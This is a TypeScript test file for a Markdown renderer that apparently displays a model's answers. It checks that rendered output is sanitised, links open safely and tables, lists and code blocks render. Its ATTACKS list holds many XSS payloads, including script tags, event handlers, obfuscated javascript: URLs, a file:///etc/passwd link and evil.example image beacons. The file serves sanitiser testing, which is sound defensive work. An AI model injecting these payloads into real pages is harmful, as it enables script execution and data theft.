import { describe, expect, it } from "vitest";

import { Markdown } from "../../../src/transcript/markdown/markdown";

function render(source: string): HTMLElement {
  const node = document.createElement("div");
  new Markdown(node).update(source, false);
  return node;
}

const ELEMENTS = new Set(
  ("A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H2 H3 H4 H5 H6 HR IMG INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD " +
    "TH THEAD TR UL").split(" "),
);
const ATTRIBUTES = new Set(
  ("alt aria-label checked class dir disabled href rel role src start style tabindex target title type").split(" "),
);

/** Everything in `node` is of a kind that can do no harm. */
function expectHarmless(node: HTMLElement): void {
  for (const element of node.querySelectorAll("*")) {
    expect(ELEMENTS).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*$/);
      if (name === "style") expect(value).toMatch(/^text-align: (left|right|center)$/);
    }
  }
}

const PIXEL = "iVBORw0KGgo=";
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <b onclick=alert(1)>bold</b> <iframe src=https://evil.example></iframe>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<details open ontoggle=alert(1)>",
  "<style>@import 'https://evil.example'</style>",
  "<!-- comment --><base href=https://evil.example>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript&#58;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/relative)",
  "[x](/lab/api/kernels)",
  "[x](https://ok.example \"onmouseover=alert(1)\")",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<https://ok.example/\"onclick=alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "![x](//evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  `![x](data:image/png;base64,${PIXEL}" onerror="alert(1))`,
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  `[![x](https://evil.example/a.png)](javascript:alert(1))`,
  "`<img src=x onerror=alert(1)>`",
  "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "# <script>alert(1)</script>",
  "- <object data=https://evil.example></object>",
  "> <form action=https://evil.example><button>x</button></form>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<a href=\"javascript:alert(1)\">x</a>",
  "$\\href{javascript:alert(1)}{x}$",
];

describe("no markup of the model's reaches the page", () => {
  it.each(ATTACKS)("%s", (source) => {
    expectHarmless(render(source));
  });

  it("raw HTML is shown as text", () => {
    expect(render("a <b>c</b> <img src=x>").textContent).toBe("a <b>c</b> <img src=x>");
    expect(render("<div>\nx\n</div>").textContent).toContain("<div>");
  });
});

describe("links and images", () => {
  it("open elsewhere and give nothing away", () => {
    const link = render("[docs](https://docs.python.org/3/?a=1&amp;b=2)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://docs.python.org/3/?a=1&b=2");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.title).toBe("https://docs.python.org/3/?a=1&b=2");
  });

  it("a link that may not be followed shows its address instead", () => {
    const node = render("[click](javascript:alert(1))");
    expect(node.querySelector("a")).toBeNull();
    expect(node.textContent).toBe("click (javascript:alert(1))");
  });

  it("a remote image is a link with its description", () => {
    const node = render("![a plot](https://example.org/p.png)");
    expect(node.querySelector("img")).toBeNull();
    expect(node.querySelector("a")?.textContent).toBe("Image: a plot");
  });

  it.each(["png", "jpeg", "gif", "webp"])("an inline %s is drawn", (kind) => {
    expect(render(`![a](data:image/${kind};base64,${PIXEL})`).querySelector("img")?.alt).toBe("a");
  });
});

describe("what markdown means", () => {
  it("resolves character references in text and not in code", () => {
    expect(render("&copy; &amp; &#x41; `&amp;`").textContent).toBe("© & A &amp;");
  });

  it("leaves mathematics as it is written", () => {
    const source = "$a_1 * b_2 * c$ and \\(x_1\\) and $$y_1 *z* y_2$$";
    expect(render(source).textContent).toBe(source);
    expect(render(source).querySelector("em")).toBeNull();
    expect(render("$5 **bold** $10").querySelector("strong")?.textContent).toBe("bold");
  });

  it("keeps the notebook's headings above the answer's", () => {
    expect(render("# One").querySelector("h2")?.textContent).toBe("One");
  });

  it("draws tables, task lists, ordered lists, quotes, breaks", () => {
    const node = render("| a | b |\n|:-:|--:|\n| 1<br>2 | ~~3~~ |\n\n3. x\n4. y\n\n- [x] done\n- [ ] open\n\n> q  \n> r\n\n---\n\n\\*");
    expect(node.querySelector("th")?.getAttribute("style")).toBe("text-align: center");
    expect(node.querySelectorAll("td br, td del")).toHaveLength(2);
    expect(node.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect([...node.querySelectorAll("input")].map((box) => box.checked)).toEqual([true, false]);
    expect(node.querySelector("blockquote br")).not.toBeNull();
    expect(node.querySelector("hr")).not.toBeNull();
    expect(node.lastElementChild?.textContent).toBe("*");
  });

  it("labels code with its language and lets it be copied", () => {
    const figure = render("```python title=x\nprint(1)\n```").querySelector("figure");
    expect(figure?.querySelector(".language")?.textContent).toBe("python");
    expect(figure?.querySelector("button")?.textContent).toBe("Copy");
    expect(figure?.querySelector("code")?.textContent).toBe("print(1)");
  });
});
